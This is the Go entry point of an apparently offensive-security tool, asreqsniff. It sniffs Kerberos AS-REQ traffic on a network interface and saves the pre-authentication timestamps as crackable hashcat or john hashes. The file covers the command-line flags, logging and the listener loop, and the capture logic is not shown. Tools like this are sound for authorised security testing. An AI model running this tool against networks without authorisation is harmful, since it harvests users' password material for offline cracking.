package main

import (
	"context"
	"fmt"
	"io"
	"log"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"

	"github.com/fatih/color"
	"github.com/mjwhitta/cli"
	"gopkg.in/natefinch/lumberjack.v2"

	"github.com/asreqsniff/asreqsniff/internal/capture"
	"github.com/asreqsniff/asreqsniff/internal/listener"
	"github.com/asreqsniff/asreqsniff/internal/roast"
	"github.com/asreqsniff/asreqsniff/internal/sink"
)

// Version info
var version = "0.1.0"

// Exit codes
const (
	ExitSuccess = iota
	ExitError
)

var flags struct {
	iface   string
	outDir  string
	format  string
	noFiles bool
	verbose bool
	version bool
}

func init() {
	cli.Align = true
	cli.Banner = fmt.Sprintf("%s [OPTIONS]", os.Args[0])
	cli.Info(
		"asreqsniff - Live Kerberos AS-REQ listener",
		"",
		"Passively captures pre-authenticated AS-REQ traffic on an interface",
		"and emits the encrypted timestamps as offline-crackable",
		"$krb5pa$18$ hashes. Runs until interrupted.",
	)
	cli.ExitStatus(
		"0 - Success",
		"1 - Error",
	)

	cli.Flag(&flags.iface, "i", "interface", "", "Interface name or number. Prompted if omitted.")
	cli.Flag(&flags.outDir, "o", "output-dir", "./kerberos_captures", "Directory for hash output files")
	cli.Flag(&flags.format, "f", "format", "hashcat", "Hash output format (john or hashcat)")
	cli.Flag(&flags.noFiles, "n", "no-files", false, "Do not create output files")
	cli.Flag(&flags.verbose, "v", "verbose", false, "Verbose diagnostic log detail")
	cli.Flag(&flags.version, "V", "version", false, "Print version and exit")

	cli.Parse()
}

func main() {
	if flags.version {
		fmt.Println(version)
		os.Exit(ExitSuccess)
	}

	format, err := roast.ParseFormat(flags.format)
	if err != nil {
		fail(err)
	}

	engine, err := capture.NewTsharkEngine()
	if err != nil {
		fail(err)
	}

	outDir, err := expandDir(flags.outDir)
	if err != nil {
		fail(err)
	}
	if flags.noFiles {
		color.Yellow("[*] No output files will be created")
	} else {
		if err := os.MkdirAll(outDir, 0o755); err != nil {
			fail(fmt.Errorf("create output directory: %w", err))
		}
		color.Green("[+] Using output directory: %s", outDir)
	}

	setupLogging(outDir)

	iface := flags.iface
	if iface == "" {
		iface, err = capture.PromptInterface(os.Stdin, os.Stdout)
		if err != nil {
			fail(err)
		}
	}

	fmt.Println("\nPress Ctrl+C to stop the listener at any time")
	fmt.Println()
	color.Cyan("=== Kerberos AS-REQ Live Listener ===")
	color.Yellow("[*] Hash format: %s", format)
	color.Yellow("[*] Starting capture on interface: %s", iface)
	color.Yellow("[*] Listening for Kerberos AS-REQ packets...")
	fmt.Println()

	s := sink.New(outDir, flags.noFiles, format)
	l := listener.New(engine, s, format, iface)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		sig := <-sigCh
		fmt.Println()
		color.Red("[!] Stopping listener (%v)...", sig)
		// Cancel before killing the engine so the loop sees an ordinary
		// cancellation rather than a surprise engine exit.
		cancel()
		l.Shutdown()
	}()

	if err := l.Run(ctx); err != nil {
		log.Printf("Listener exited with error: %v", err)
		fail(err)
	}

	if flags.noFiles {
		color.Green("[+] Listener stopped.")
	} else {
		color.Green("[+] Listener stopped. Check output files in: %s", outDir)
	}
}

// setupLogging routes the diagnostic log to stderr and, unless file output
// is suppressed, to a rotating file in the output directory; stdout stays
// reserved for captured hashes. The console leg is unconditional so
// absorbed-fault warnings (failed writes, failed teardown, failed interface
// checks) stay operator-visible. Verbose mode adds source locations.
func setupLogging(outDir string) {
	log.SetOutput(io.MultiWriter(logWriters(os.Stderr, outDir, flags.noFiles)...))
	if flags.verbose {
		log.SetFlags(log.LstdFlags | log.Lmicroseconds | log.Lshortfile)
	}
}

// logWriters returns the diagnostic log destinations: always the console,
// plus the rotating log file when file output is enabled.
func logWriters(console io.Writer, outDir string, noFiles bool) []io.Writer {
	writers := []io.Writer{console}
	if !noFiles {
		writers = append(writers, &lumberjack.Logger{
			Filename:   filepath.Join(outDir, "asreqsniff.log"),
			MaxSize:    10, // megabytes
			MaxBackups: 3,
			Compress:   true,
		})
	}
	return writers
}

func expandDir(dir string) (string, error) {
	if dir == "~" || strings.HasPrefix(dir, "~/") {
		home, err := os.UserHomeDir()
		if err != nil {
			return "", fmt.Errorf("expand %s: %w", dir, err)
		}
		dir = filepath.Join(home, strings.TrimPrefix(dir, "~"))
	}
	return filepath.Clean(dir), nil
}

func fail(err error) {
	fmt.Fprintf(os.Stderr, "[!] %v\n", err)
	os.Exit(ExitError)
}
